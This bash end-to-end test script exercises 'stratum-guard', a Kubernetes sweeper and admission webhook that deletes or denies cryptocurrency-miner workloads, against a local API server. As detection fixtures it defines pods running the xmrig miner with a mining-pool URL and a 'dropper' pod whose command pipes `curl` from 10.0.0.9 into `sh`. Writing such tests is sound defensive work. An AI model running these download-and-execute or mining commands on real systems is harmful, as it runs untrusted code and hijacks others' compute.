#!/usr/bin/env bash
# stratum-guard against a real kube-apiserver (v1.20.2, with etcd, on loopback): `make e2e`.
#   test/e2e/run.sh BINARY
# What it proves, in this order (test/e2e/README.md says why each step is there):
#   1. the manifests' Namespace, ServiceAccount and RBAC apply, and the PolicyReport CRD;
#   2. the sweeper, as that ServiceAccount (a client certificate RBAC maps to it), lists, watches
#      and deletes miner pods and keeps benign ones, writes Events and the namespace's
#      PolicyReport, takes the Lease while a
#      second sweeper waits, survives an API server restart mid-watch, and hands the Lease over;
#      the ServiceAccount can do nothing else the tests try;
#   3. the manifests' webhook configuration, pointed at the binary on 127.0.0.1, judges every
#      workload kind through `kubectl apply --dry-run=server` and real creates, shows the denial
#      and the warnings, and skips its own namespace and kube-system;
#   4. self-managed certificates: two replicas of `serve --manage-certs`, as the ServiceAccount,
#      create one Secret, patch the shipped configuration's caBundle and serve its certificate,
#      which the API server trusts through the shipped Service reference; serving certificate and
#      CA rotations then pass under a loop of reviews with no failed or wrongly answered one.
# Environment: KUBECTL (default kubectl), KEEP_E2E_DIR=1 keeps the run's directory (logs, PKI).
# Prints "N passed, N failed"; exits non-zero on any failure. Every process it starts is stopped
# on every way out, by PID.
set -euo pipefail

bin=$(realpath "${1:?usage: test/e2e/run.sh BINARY}")
here=$(cd "$(dirname "$0")" && pwd)
src=$(cd "$here/../.." && pwd)
source "$here/lib.sh"
source "$here/kube/cluster.sh"
KUBECTL=${KUBECTL:-kubectl}
for tool in "$KUBECTL" jq curl openssl etcd setsid; do
  command -v "$tool" >/dev/null || { echo "$tool not found: run 'make e2e-deps'"; exit 2; }
done
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY
export NO_PROXY=127.0.0.1,localhost no_proxy=127.0.0.1,localhost
started=$SECONDS
KUBE_APISERVER=$("$here/kube/build.sh")
echo "kube-apiserver: $KUBE_APISERVER (ready after $((SECONDS - started)) s)"

work=$(mktemp -d "${TMPDIR:-/tmp}/stratum-guard-e2e.XXXXXX")
KUBE_DIR=$work/kube
webhook_pid=""
sweeper_a=""
sweeper_b=""
replica_a=""
replica_b=""
cleanup() {
  local status=$?
  stop_pid "$webhook_pid"
  stop_pid "$replica_a"
  stop_pid "$replica_b"
  stop_pid "$sweeper_a"
  stop_pid "$sweeper_b"
  kube_stop
  rm -f "$work"/pids/*.pid "$KUBE_DIR"/*.pid
  if [[ $status != 0 || -n ${KEEP_E2E_DIR:-} ]]; then
    echo "logs and certificates kept in $work"
  else
    rm -rf "$work"
  fi
}
trap cleanup EXIT
trap 'exit 1' INT TERM
# Seen here: a SIGTERM that reaches this script while it waits for a command substitution can
# end it without running the traps. A guardian then stops, by their recorded PIDs, whatever the
# run started (cleanup removes the records once it has stopped them itself).
mkdir -p "$work/pids"
(
  trap '' INT TERM
  while kill -0 $$ 2>/dev/null; do sleep 1; done
  for f in "$work"/pids/*.pid "$KUBE_DIR"/*.pid; do
    [[ -f $f ]] && kill -TERM "$(cat "$f")" 2>/dev/null
  done
  true
) </dev/null >/dev/null 2>&1 &
record() { echo "$2" >"$work/pids/$1.pid"; }

readonly ns=stratum-guard sa=stratum-guard
admin() { "$KUBECTL" --kubeconfig "$KUBE_DIR/admin.kubeconfig" "$@"; }
as_sa() { "$KUBECTL" --kubeconfig "$KUBE_DIR/sa.kubeconfig" "$@"; }

# ---------------------------------------------------------------------------------------------
echo "== API server"
kube_init
kube_start_etcd
kube_start_apiserver
pass "kube-apiserver $(admin version -o json 2>/dev/null | jq -r .serverVersion.gitVersion) ready on 127.0.0.1:$kube_port"

# The manifests as shipped: rendered by kustomize where kubectl's is v4 or newer, else (Debian's
# kubectl 1.20 has kustomize v2) the base's files, which are the same objects before the
# overlays' failurePolicy and caBundle patches. The Deployment, Service and the rest need a
# kubelet; the tests run the binary instead.
if admin kustomize "$src/manifests/default" >"$work/manifests.yaml" 2>"$work/kustomize.log"; then
  echo "manifests: kubectl kustomize manifests/default"
else
  echo "manifests: the base's files and the default's certificate RBAC (this kubectl's kustomize cannot build the overlays)"
  for f in base/namespace base/serviceaccount base/rbac base/validatingwebhookconfiguration \
           base/service default/rbac-certs; do
    cat "$src/manifests/$f.yaml"
    echo "---"
  done >"$work/manifests.yaml"
fi
# The documents of some kinds, by their top-level `kind:` line (kustomize writes one per
# document; the base's files too). Text, not kubectl: a 1.20 server knows no policy/v1.
of_kinds() {  # of_kinds "KIND..." < YAML
  awk -v kinds="$1" 'BEGIN { n = split(kinds, k, " "); for (i = 1; i <= n; i++) want[k[i]] = 1 }
    function flush() { if (keep) printf "---\n%s", doc; doc = ""; keep = 0 }
    /^---/ { flush(); next }
    { doc = doc $0 "\n" }
    /^kind: / { keep = ($2 in want) }
    END { flush() }'
}
of_kinds "Namespace ServiceAccount ClusterRole ClusterRoleBinding Role RoleBinding" \
  <"$work/manifests.yaml" >"$work/rbac.yaml"
of_kinds ValidatingWebhookConfiguration <"$work/manifests.yaml" >"$work/webhook.yaml"
of_kinds Service <"$work/manifests.yaml" >"$work/service.yaml"
[[ $(grep -c '^kind: ' "$work/rbac.yaml") == 10 && $(grep -c '^kind: ' "$work/webhook.yaml") == 1 ]] ||
  die "expected 10 Namespace and RBAC objects and 1 webhook configuration in the manifests" "$work/manifests.yaml"
# -n: the base's files leave the namespace to kustomize; the rendered ones already have it.
admin apply -n "$ns" -f "$work/rbac.yaml" >"$work/apply-rbac.log" 2>&1 ||
  die "applying the RBAC failed" "$work/apply-rbac.log"
pass "the manifests' Namespace, ServiceAccount, ClusterRole(Binding) and Role(Binding) applied"

# The PolicyReport CRD, from the optional component (manifests/policy-reports), as published.
admin apply -f "$src/manifests/policy-reports/crd.yaml" >"$work/apply-crd.log" 2>&1 ||
  die "applying the PolicyReport CRD failed" "$work/apply-crd.log"
admin wait --for condition=established --timeout=60s crd/policyreports.wgpolicyk8s.io \
  >>"$work/apply-crd.log" 2>&1 || die "the PolicyReport CRD was not established" "$work/apply-crd.log"
pass "the PolicyReport CRD is established on the real API server"

# ---------------------------------------------------------------------------------------------
echo "== The sweeper as its ServiceAccount, under the manifests' RBAC"
sign_client_cert sa "/O=system:serviceaccounts/O=system:serviceaccounts:$ns/CN=system:serviceaccount:$ns:$sa"
write_kubeconfig sa "$KUBE_DIR/sa.kubeconfig"

# Least privilege: what the ClusterRole and the Role grant, and a sample of what they must not.
can() { as_sa auth can-i "$@" 2>/dev/null || true; }
for allowed in "list pods -A" "watch pods -A" "delete pods -n default" "create events -n default" \
               "create leases -n $ns" "update leases/stratum-guard-sweeper -n $ns" \
               "create policyreports.wgpolicyk8s.io -n default" \
               "update policyreports.wgpolicyk8s.io -n default" \
               "get secrets/stratum-guard-tls -n $ns" "update secrets/stratum-guard-tls -n $ns" \
               "create secrets -n $ns" "get validatingwebhookconfigurations/stratum-guard" \
               "patch validatingwebhookconfigurations/stratum-guard"; do
  [[ $(can $allowed) == yes ]] && pass "the ServiceAccount may $allowed" || fail "the ServiceAccount may not $allowed"
done
for denied in "get secrets -n $ns" "list secrets -A" "get secrets/other -n $ns" "create secrets -n default" \
              "update secrets/other -n $ns" "delete secrets/stratum-guard-tls -n $ns" \
              "patch validatingwebhookconfigurations/other" "delete validatingwebhookconfigurations/stratum-guard" \
              "create pods -n default" "patch pods -n default" \
              "delete deployments -n default" "update leases/other -n $ns" "create leases -n default" \
              "update validatingwebhookconfigurations" "list nodes" \
              "patch policyreports.wgpolicyk8s.io -n default" \
              "create clusterpolicyreports.wgpolicyk8s.io"; do
  [[ $(can $denied) == no ]] && pass "the ServiceAccount may not $denied" || fail "the ServiceAccount may $denied"
done

# Pods: created before any webhook is registered (the admission part comes later), so miners get
# in as they would have before stratum-guard was installed. No scheduler: they stay Pending.
pod() {  # pod NAMESPACE NAME IMAGE [ARG...]
  local args=""
  [[ $# -gt 3 ]] && args=$(printf '%s\n' "${@:4}" | jq -R . | jq -sc .)
  jq -nc --arg ns "$1" --arg name "$2" --arg image "$3" --argjson args "${args:-null}" \
    '{apiVersion: "v1", kind: "Pod", metadata: {namespace: $ns, name: $name},
      spec: {containers: [{name: "main", image: $image} + (if $args then {args: $args} else {} end)]}}'
}
exists() { admin get "$1" -n "$2" "$3" >/dev/null 2>&1; }
absent() { ! exists "$@"; }
admin create namespace e2e-sweep >/dev/null
for p in "web nginx:1.25" "worker python:3.12 -m http.server"; do
  set -- $p
  pod e2e-sweep "$@" | admin create -f - >/dev/null
done
pod e2e-sweep xmrig xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
pod e2e-sweep cache alpine:3.20 --url stratum+tcp://pool.supportxmr.com:3333 | admin create -f - >/dev/null
# Its own pod, which it must never delete: named as the sweeper's POD_NAME says.
pod "$ns" stratum-guard-a xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
# A dropper: a warn finding, kept running, so it stays in the namespace's PolicyReport.
pod e2e-sweep dropper alpine:3.20 sh -c 'curl -s http://10.0.0.9/x.sh | sh' | admin create -f - >/dev/null


start_sweeper() {  # start_sweeper NAME -> the PID; logs in $work/NAME.log
  POD_NAME=stratum-guard-$1 POD_NAMESPACE=$ns setsid "$bin" sweep --kubeconfig "$KUBE_DIR/sa.kubeconfig" \
    --leader-elect=true --lease-duration=6s --renew-deadline=4s --retry-period=1s \
    --circuit-breaker-min=20 --grace-period=0 --resync-period=10m \
    >"$work/sweeper-$1.log" 2>&1 </dev/null &
  echo $!
}
lease_holder() { admin get lease -n "$ns" stratum-guard-sweeper -o jsonpath='{.spec.holderIdentity}' 2>/dev/null; }
holder_is() { [[ $(lease_holder) == stratum-guard-$1* ]]; }
sweeper_a=$(start_sweeper a)
record sweeper-a "$sweeper_a"
wait_for 30 holder_is a && pass "sweeper a took the Lease ($(lease_holder))" ||
  die "sweeper a did not take the Lease in 30 s" "$work/sweeper-a.log"
wait_for 30 absent pod e2e-sweep xmrig && wait_for 30 absent pod e2e-sweep cache &&
  pass "the listed miner pods (image, pool URL) were deleted" ||
  fail "miner pods left: $(admin get pods -n e2e-sweep -o name | paste -sd' ')"
exists pod e2e-sweep web && exists pod e2e-sweep worker && pass "the benign pods were kept" ||
  fail "a benign pod was deleted"
exists pod "$ns" stratum-guard-a && pass "its own pod was kept although the policy condemns it" ||
  fail "the sweeper deleted its own pod"
events() { admin get events -n e2e-sweep --field-selector "reason=$1" -o json | jq -r '.items[].involvedObject.name' | sort | paste -sd' '; }
wait_for 10 test "$(events MinerPodDeleted)" == "cache xmrig" &&
  pass "MinerPodDeleted Events on both pods, written as the ServiceAccount" ||
  fail "MinerPodDeleted Events on '$(events MinerPodDeleted)'"
exists pod e2e-sweep dropper && pass "the pod with only a warn finding was kept" ||
  fail "the pod with only a warn finding was deleted"
# One report for the namespace, written as the ServiceAccount; the deleted miners left it.
report_results() {
  admin get policyreports -n e2e-sweep stratum-guard -o json 2>/dev/null |
    jq -r '.results[] | "\(.resources[0].name) \(.rule) \(.result)"' | sort | paste -sd','
}
wait_for 30 test "$(report_results)" == "dropper download-exec warn,dropper dropper warn" &&
  pass "the namespace's PolicyReport lists the dropper's warn and audit findings, and no deleted pod" ||
  fail "PolicyReport results: '$(report_results)'"
[[ $(admin get policyreports -A -o name 2>/dev/null | wc -l) == 1 ]] &&
  pass "kubectl get policyreports -A lists one report" ||
  fail "policy reports: $(admin get policyreports -A -o name 2>&1 | paste -sd' ')"

sweeper_b=$(start_sweeper b)
record sweeper-b "$sweeper_b"
# b tries the Lease every second. While a renews it three times, b has tried as often and must
# still be waiting: the window is counted in a's renewals, not in seconds slept.
lease_version() { admin get lease -n "$ns" stratum-guard-sweeper -o jsonpath='{.metadata.resourceVersion}'; }
lease_moved() { [[ $(lease_version) != "$1" ]]; }
for _ in 1 2 3; do
  version=$(lease_version)
  wait_for 15 lease_moved "$version" || fail "sweeper a stopped renewing the Lease"
done
holder_is a && ! grep -q '"msg":"leader election: became leader"' "$work/sweeper-b.log" &&
  ! gone "$sweeper_b" && pass "sweeper b waits while a holds the Lease" ||
  fail "sweeper b did not wait for the Lease (holder $(lease_holder))"

# The watch: a miner created now is deleted without a relist (the resync period is 10 minutes).
pod e2e-sweep late xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
wait_for 30 absent pod e2e-sweep late && pass "a miner pod created during the watch was deleted" ||
  fail "the miner pod created during the watch is still there"

# The API server goes away in the middle of the watch and comes back (etcd keeps the state).
# The outage outlasts the 4 s renew deadline, so the leader steps down and either sweeper may
# win the Lease afterwards; whichever it is resumes and deletes.
now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }  # the sweepers' own "ts" format, which sorts as text
restart_began=$(now)
kube_stop_apiserver
kube_start_apiserver
pass "kube-apiserver restarted"
pod e2e-sweep after-restart alpine:3.20 --url stratum+tcp://pool.supportxmr.com:3333 | admin create -f - >/dev/null
wait_for 60 absent pod e2e-sweep after-restart &&
  pass "after the restart a sweeper resumed and deleted a new miner pod" ||
  fail "the miner pod created after the restart is still there"
exists pod e2e-sweep web && pass "the benign pods are still kept after the restart" || fail "a benign pod was deleted"
restart_settled=$(now)
leader=$(lease_holder) && leader=${leader#stratum-guard-} && leader=${leader%%_*}
[[ $leader == a || $leader == b ]] && pass "sweeper $leader holds the Lease after the restart" ||
  die "no sweeper holds the Lease after the restart ('$(lease_holder)')"

# The leader stops: it releases the Lease, the other takes it and sweeps.
if [[ $leader == a ]]; then other=b; leader_pid=$sweeper_a; sweeper_a=""; else other=a; leader_pid=$sweeper_b; sweeper_b=""; fi
stop_pid "$leader_pid" 20
wait_for 30 holder_is "$other" && pass "sweeper $other took the Lease after $leader stopped ($(lease_holder))" ||
  fail "the Lease holder is '$(lease_holder)' after $leader stopped"
pod e2e-sweep for-$other xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
wait_for 30 absent pod e2e-sweep "for-$other" && pass "sweeper $other deletes miner pods" ||
  fail "sweeper $other did not delete the miner pod"
stop_pid "$sweeper_a" 20
stop_pid "$sweeper_b" 20
sweeper_a=""
sweeper_b=""

# The RBAC is enough: no call was refused, except while the restarted API server was warming up
# (1.20 answers ready before its RBAC authorizer has synced: a 403 then is the server's, not the
# Role's, and is reported, not failed).
refused() {  # refused "JQ CONDITION ON .ts" -> the refused calls' log lines
  jq -c --arg from "$restart_began" --arg to "$restart_settled" \
    "select(($1) and ((.error // \"\") | test(\"403|[Ff]orbidden\")))" "$work"/sweeper-*.log
}
during=$(refused '.ts >= $from and .ts < $to' | wc -l)
((during == 0)) || echo "note: $during call(s) refused while the restarted API server warmed up"
refused '.ts < $from or .ts >= $to' >"$work/refused.log"
[[ ! -s $work/refused.log ]] && pass "no sweeper call was refused (403) under the manifests' RBAC" ||
  fail "a sweeper call was refused: $(head -n 3 "$work/refused.log")"

# ---------------------------------------------------------------------------------------------
echo "== The webhook, registered with the manifests' configuration"
sign_cert webhook "/CN=stratum-guard" "keyUsage=critical,digitalSignature" \
  "extendedKeyUsage=serverAuth" "subjectAltName=IP:127.0.0.1"
"$bin" serve --listen 127.0.0.1:0 --metrics-listen 127.0.0.1:0 \
  --tls-cert "$kube_pki/webhook.crt" --tls-key "$kube_pki/webhook.key" >"$work/webhook.log" 2>&1 &
webhook_pid=$!
record webhook "$webhook_pid"
wait_for 30 reports_port "$work/webhook.log" webhook ||
  die "the webhook did not report its port in 30 s" "$work/webhook.log"
webhook_port=$(listening_port "$work/webhook.log" webhook)
# The configuration as shipped, but for clientConfig: a URL instead of the in-cluster Service, and
# the test CA. On 1.20 CronJobs are batch/v1beta1 only, which the shipped batch/v1 rule cannot
# match (matchPolicy Equivalent maps only to versions the server has): the test adds v1beta1,
# and shows the gap first.
jq --arg url "https://127.0.0.1:$webhook_port/validate" --arg ca "$(base64 -w0 "$kube_pki/ca.crt")" \
  '.webhooks[0].clientConfig = {url: $url, caBundle: $ca}' \
  <(admin create --dry-run=client -o json -f "$work/webhook.yaml") >"$work/webhook-shipped.json"
admin apply -f "$work/webhook-shipped.json" >/dev/null
admin create namespace e2e-apps >/dev/null

# Workloads: one pod template, a miner's or a benign one, in each kind.
template() {  # template IMAGE ARG...
  local args
  args=$(printf '%s\n' "${@:2}" | jq -R . | jq -sc 'map(select(. != ""))')
  jq -nc --arg image "$1" --argjson args "$args" \
    '{metadata: {labels: {app: "e2e"}}, spec: {restartPolicy: "Always",
      containers: [{name: "main", image: $image} + (if ($args | length) > 0 then {args: $args} else {} end)]}}'
}
workload() {  # workload KIND NAME IMAGE ARG...
  local kind=$1 name=$2 t
  t=$(template "${@:3}")
  case $kind in
    Pod) jq -c --arg n "$name" '{apiVersion: "v1", kind: "Pod", metadata: {name: $n}, spec: .spec}' <<<"$t" ;;
    ReplicationController)
      jq -c --arg n "$name" '{apiVersion: "v1", kind: "ReplicationController", metadata: {name: $n},
        spec: {selector: {app: "e2e"}, template: .}}' <<<"$t" ;;
    Deployment | ReplicaSet | StatefulSet | DaemonSet)
      jq -c --arg k "$kind" --arg n "$name" '{apiVersion: "apps/v1", kind: $k, metadata: {name: $n},
        spec: ({selector: {matchLabels: {app: "e2e"}}, template: .}
               + (if $k == "StatefulSet" then {serviceName: $n} else {} end))}' <<<"$t" ;;
    Job) jq -c --arg n "$name" '{apiVersion: "batch/v1", kind: "Job", metadata: {name: $n},
           spec: {template: (.spec.restartPolicy = "Never")}}' <<<"$t" ;;
    CronJob) jq -c --arg n "$name" '{apiVersion: "batch/v1beta1", kind: "CronJob", metadata: {name: $n},
               spec: {schedule: "*/5 * * * *", jobTemplate: {spec: {template: (.spec.restartPolicy = "Never")}}}}' <<<"$t" ;;
  esac
}
lower() { tr '[:upper:]' '[:lower:]' <<<"$1"; }

workload CronJob shipped-gap xmrig/xmrig:6.21.0 >"$work/gap.json"
if admin apply --dry-run=server -n e2e-apps -f "$work/gap.json" >"$work/gap.log" 2>&1; then
  pass "as documented: on 1.20 the shipped batch/v1 rule does not see batch/v1beta1 CronJobs"
else
  fail "the shipped configuration judged a batch/v1beta1 CronJob on 1.20: $(cat "$work/gap.log")"
fi
jq '.webhooks[0].rules |= map(if .apiGroups == ["batch"] then .apiVersions += ["v1beta1"] else . end)' \
  "$work/webhook-shipped.json" | admin apply -f - >/dev/null
# The API server reads webhook configurations through an informer: wait until it calls ours.
workload Pod probe xmrig/xmrig:6.21.0 >"$work/probe.json"
wait_for 30 bash -c "! '$KUBECTL' --kubeconfig '$KUBE_DIR/admin.kubeconfig' apply --dry-run=server -n e2e-apps -f '$work/probe.json'" ||
  die "the API server never called the webhook" "$work/webhook.log"

denial='admission webhook "validate.stratum-guard.io" denied the request: stratum-guard denied'
for kind in Pod Deployment ReplicaSet StatefulSet DaemonSet Job CronJob ReplicationController; do
  name=miner-$(lower "$kind")
  workload "$kind" "$name" xmrig/xmrig:6.21.0 --url=stratum+tcp://pool.supportxmr.com:3333 >"$work/$name.json"
  resource=$(lower "$kind")
  if out=$(admin apply --dry-run=server -n e2e-apps -f "$work/$name.json" 2>&1); then
    fail "$kind: server dry run admitted the miner: $out"
  elif [[ $out == *"Error from server (Forbidden)"*"$denial $kind e2e-apps/$name: "*"(rule miner-image)"* ]]; then
    pass "$kind: apply --dry-run=server shows the denial"
  else
    fail "$kind: apply --dry-run=server said: $out"
  fi
  if out=$(admin create -n e2e-apps -f "$work/$name.json" 2>&1); then
    fail "$kind: the miner was created: $out"
  elif [[ $out == *"$denial $kind e2e-apps/$name: "* ]] && absent "$resource" e2e-apps "$name"; then
    pass "$kind: create is denied and nothing is stored"
  else
    fail "$kind: create said: $out"
  fi
  workload "$kind" "benign-$resource" nginx:1.25 >"$work/benign-$resource.json"
  out=$(admin create -n e2e-apps -f "$work/benign-$resource.json" 2>&1) && exists "$resource" e2e-apps "benign-$resource" &&
    pass "$kind: a benign one is created" || fail "$kind: the benign one was refused: $out"
done

# A finding whose action is warn: admitted, and kubectl prints the webhook's warning.
workload Deployment warned alpine:3.20 --donate-level=1 >"$work/warned.json"
out=$(admin create -n e2e-apps -f "$work/warned.json" 2>&1) && [[ $out == *"Warning: "*"miner-flag"* ]] &&
  exists deployment e2e-apps warned && pass "a warn finding is admitted with kubectl's 'Warning:' line" ||
  fail "the warn finding gave: $out"

# The namespaceSelector. 1.20 does not set the kubernetes.io/metadata.name label (1.21 and later
# do, and nobody can change it): without it the shipped selector skips nothing, which the test
# shows first; then it sets the label as a newer API server would.
workload Pod skipped xmrig/xmrig:6.21.0 >"$work/skipped.json"
if admin create --dry-run=server -n "$ns" -f "$work/skipped.json" >/dev/null 2>&1; then
  fail "$ns was skipped without the kubernetes.io/metadata.name label"
else
  pass "as documented: on 1.20, without the label 1.21 sets, $ns is not skipped"
fi
for n in "$ns" kube-system; do admin label namespace "$n" "kubernetes.io/metadata.name=$n" --overwrite >/dev/null; done
for n in "$ns" kube-system; do
  out=$(admin create -n "$n" -f "$work/skipped.json" 2>&1) && exists pod "$n" skipped &&
    pass "$n: skipped by the namespaceSelector (a miner pod is admitted)" || fail "$n: $out"
done
[[ $(grep -c '"namespace":"kube-system"' "$work/webhook.log" || true) == 0 ]] &&
  pass "the webhook received no review from kube-system" || fail "the webhook judged kube-system"

# The webhook's own view: every denial above came through it, dry runs included (two per kind,
# the skipped namespace's and the probe's: 18 at least). Clean allowed reviews are logged at
# debug only, so they are not counted here.
reviews=$(grep '"msg":"admission"' "$work/webhook.log" | grep -c '"decision":"denied"' || true)
((reviews >= 18)) && pass "the webhook logged $reviews denials" || fail "the webhook logged only $reviews denials"

# ---------------------------------------------------------------------------------------------
echo "== Self-managed certificates: serve --manage-certs as the ServiceAccount"
stop_pid "$webhook_pid"
webhook_pid=""
# The shipped configuration again: clientConfig is the Service, and no caBundle (kubectl apply
# drops the test's URL and CA, which it had applied itself).
admin apply -f "$work/webhook.yaml" >/dev/null
[[ -z $(admin get validatingwebhookconfiguration stratum-guard -o jsonpath='{.webhooks[0].clientConfig.caBundle}') ]] ||
  die "the shipped webhook configuration still carries a caBundle"
# The API server dials the Service's Endpoints (aggregator routing, kube/cluster.sh), which may
# not be a loopback address: the replica behind the Service listens on this machine's first
# other IPv4 address.
host_ip=$(hostname -I 2>/dev/null | tr ' ' '\n' | grep -E '^[0-9]+(\.[0-9]+){3}$' | grep -v '^127\.' | head -n1 || true)
[[ -n $host_ip ]] || die "no non-loopback IPv4 address for the webhook's Endpoints"
admin apply -n "$ns" -f "$work/service.yaml" >/dev/null

# Lifetimes in seconds, so that the run sees serving certificates renewed (every 20 s) and a CA
# rotation (at 60 s, then 5 s for each step of its overlap).
start_replica() {  # start_replica NAME ADDRESS -> the PID; logs in $work/replica-NAME.log
  POD_NAME=stratum-guard-$1 POD_NAMESPACE=$ns setsid "$bin" serve --listen "$2" \
    --metrics-listen 127.0.0.1:0 --kubeconfig "$KUBE_DIR/sa.kubeconfig" --manage-certs \
    --cert-check-interval=1s --cert-validity=30s --ca-validity=90s --cert-overlap=5s \
    >"$work/replica-$1.log" 2>&1 </dev/null &
  echo $!
}
certs_started=$SECONDS
replica_a=$(start_replica a "$host_ip:0")
record replica-a "$replica_a"
replica_b=$(start_replica b "127.0.0.1:0")
record replica-b "$replica_b"
for r in a b; do
  wait_for 30 reports_port "$work/replica-$r.log" webhook ||
    die "replica $r did not report its port in 30 s" "$work/replica-$r.log"
done
address_a=$host_ip:$(listening_port "$work/replica-a.log" webhook)
address_b=127.0.0.1:$(listening_port "$work/replica-b.log" webhook)
jq -n --arg ns "$ns" --arg ip "$host_ip" --argjson port "${address_a##*:}" \
  '{apiVersion: "v1", kind: "Endpoints", metadata: {name: "stratum-guard", namespace: $ns},
    subsets: [{addresses: [{ip: $ip}], ports: [{name: "webhook", port: $port, protocol: "TCP"}]}]}' |
  admin apply -f - >/dev/null

secret_field() {  # secret_field KEY -> the Secret's data[KEY], decoded
  admin get secret -n "$ns" stratum-guard-tls -o json 2>/dev/null | jq -r --arg k "$1" '.data[$k] // ""' | base64 -d
}
ca_bundle() {
  admin get validatingwebhookconfiguration stratum-guard -o jsonpath='{.webhooks[0].clientConfig.caBundle}' | base64 -d
}
fingerprint() { openssl x509 -noout -fingerprint -sha256 2>/dev/null; }
served_fingerprint() {  # served_fingerprint ADDRESS
  openssl s_client -connect "$1" -servername stratum-guard.stratum-guard.svc </dev/null 2>/dev/null | fingerprint
}
serves_secret() { [[ $(served_fingerprint "$1") == "$(secret_field tls.crt | fingerprint)" && -n $(secret_field tls.crt) ]]; }
ready() { [[ $(curl -sk -o /dev/null -w '%{http_code}' "https://$1/readyz") == 200 ]]; }
bundle_is_secret_ca() { [[ -n $(secret_field ca.crt) && $(ca_bundle) == "$(secret_field ca.crt)" ]]; }

wait_for 30 test -n "$(secret_field tls.crt)" && wait_for 30 bundle_is_secret_ca ||
  die "no Secret, or the caBundle is not its ca.crt, 30 s after the replicas started" "$work/replica-a.log"
[[ $(admin get secret -n "$ns" stratum-guard-tls -o jsonpath='{.type}') == kubernetes.io/tls ]] &&
  pass "the Secret stratum-guard-tls was created (kubernetes.io/tls) and the caBundle patched with its ca.crt" ||
  fail "the Secret's type is $(admin get secret -n "$ns" stratum-guard-tls -o jsonpath='{.type}')"
creators=$(grep -l '"msg":"certificate Secret created"' "$work"/replica-*.log | wc -l)
[[ $creators == 1 ]] && pass "one replica created the Secret; the other read it" ||
  fail "$creators replicas logged creating the Secret"
for address in "$address_a" "$address_b"; do
  wait_for 30 ready "$address" && wait_for 30 serves_secret "$address" &&
    pass "the replica on $address is ready and serves the Secret's certificate" ||
    fail "the replica on $address: ready $(ready "$address" && echo yes || echo no), serves $(served_fingerprint "$address")"
done

# The API server calls the webhook through the Service, trusting only the caBundle.
workload Pod certs-probe xmrig/xmrig:6.21.0 >"$work/certs-probe.json"
workload Pod certs-benign nginx:1.25 >"$work/certs-benign.json"
denied_by_webhook() {
  local out
  out=$(admin apply --dry-run=server -n e2e-apps -f "$work/certs-probe.json" 2>&1) && return 1
  [[ $out == *"$denial Pod e2e-apps/certs-probe"* ]]
}
wait_for 30 denied_by_webhook && pass "the API server calls the webhook with the self-managed CA (a miner is denied)" ||
  die "the API server did not call the webhook with the Secret's certificate: $(admin apply --dry-run=server -n e2e-apps -f "$work/certs-probe.json" 2>&1)" "$work/replica-a.log"
out=$(admin create -n e2e-apps -f "$work/certs-benign.json" 2>&1) && exists pod e2e-apps certs-benign &&
  pass "a benign pod is created through the self-managed webhook" || fail "the benign pod: $out"

# Rotations under load: reviews run back to back (a miner must be denied by the webhook, a benign
# pod admitted) while serving certificates are renewed and the CA is replaced. Every answer
# that is not the webhook's verdict (a TLS or connection failure the API server reports) counts.
first_ca=$(secret_field ca.crt | fingerprint)
first_serving=$(secret_field tls.crt | fingerprint)
reviews=0 failures=0 serving_seen=$first_serving servings=1 max_cas=1 last_ca=$first_ca
: >"$work/rotation-failures.log"
deadline=$((SECONDS + 150))
while ((SECONDS < deadline)); do
  if denied_by_webhook; then :; else
    failures=$((failures + 1))
    admin apply --dry-run=server -n e2e-apps -f "$work/certs-probe.json" >>"$work/rotation-failures.log" 2>&1 || true
  fi
  if ! admin apply --dry-run=server -n e2e-apps -f "$work/certs-benign.json" >>"$work/rotation-benign.log" 2>&1; then
    failures=$((failures + 1))
    tail -n 2 "$work/rotation-benign.log" >>"$work/rotation-failures.log"
  fi
  reviews=$((reviews + 2))
  serving=$(secret_field tls.crt | fingerprint)
  [[ -n $serving && $serving != "$serving_seen" ]] && { serving_seen=$serving; servings=$((servings + 1)); }
  cas=$(ca_bundle | grep -c 'BEGIN CERTIFICATE' || true)
  ((cas > max_cas)) && max_cas=$cas
  last_ca=$(secret_field ca.crt | fingerprint)
  # Done once a CA rotation has completed: one CA again, not the first, and the certificate
  # it signed served for a few more reviews.
  if ((max_cas == 2 && cas == 1)) && [[ -n $last_ca && $last_ca != "$first_ca" ]]; then
    ((${done_at:-0} > 0)) || done_at=$SECONDS
    ((SECONDS - done_at >= 5)) && break
  fi
done
echo "rotation: $reviews reviews, $failures failed, $servings serving certificates, up to $max_cas CAs in the caBundle, $((SECONDS - certs_started)) s"
((servings >= 3)) && pass "serving certificates were renewed in the Secret ($servings in all)" ||
  fail "only $servings serving certificate(s) in $((SECONDS - certs_started)) s"
((max_cas == 2)) && [[ $last_ca != "$first_ca" ]] && [[ $(ca_bundle | grep -c 'BEGIN CERTIFICATE') == 1 ]] &&
  pass "the CA was replaced through an overlap: both CAs in the caBundle, then the new one alone" ||
  fail "CA rotation: up to $max_cas CAs in the caBundle, CA changed: $([[ $last_ca != "$first_ca" ]] && echo yes || echo no)"
((failures == 0 && reviews >= 20)) && pass "no review failed or was answered wrongly across the rotations ($reviews reviews)" ||
  fail "$failures of $reviews reviews failed across the rotations: $(head -n 3 "$work/rotation-failures.log")"
for address in "$address_a" "$address_b"; do
  wait_for 10 serves_secret "$address" && pass "the replica on $address serves the rotated certificate" ||
    fail "the replica on $address serves $(served_fingerprint "$address"), not the Secret's"
done
refused_certs=$(grep -h '"msg":"self-managed certificates: a step failed"' "$work"/replica-*.log | grep -c '403' || true)
((refused_certs == 0)) && pass "no certificate call was refused (403) under the manifests' RBAC" ||
  fail "$refused_certs certificate step(s) refused: $(grep -h '403' "$work"/replica-*.log | head -n 2)"
stop_pid "$replica_a" 20
stop_pid "$replica_b" 20
replica_a=""
replica_b=""

echo "e2e run: $((SECONDS - started)) s"
finish
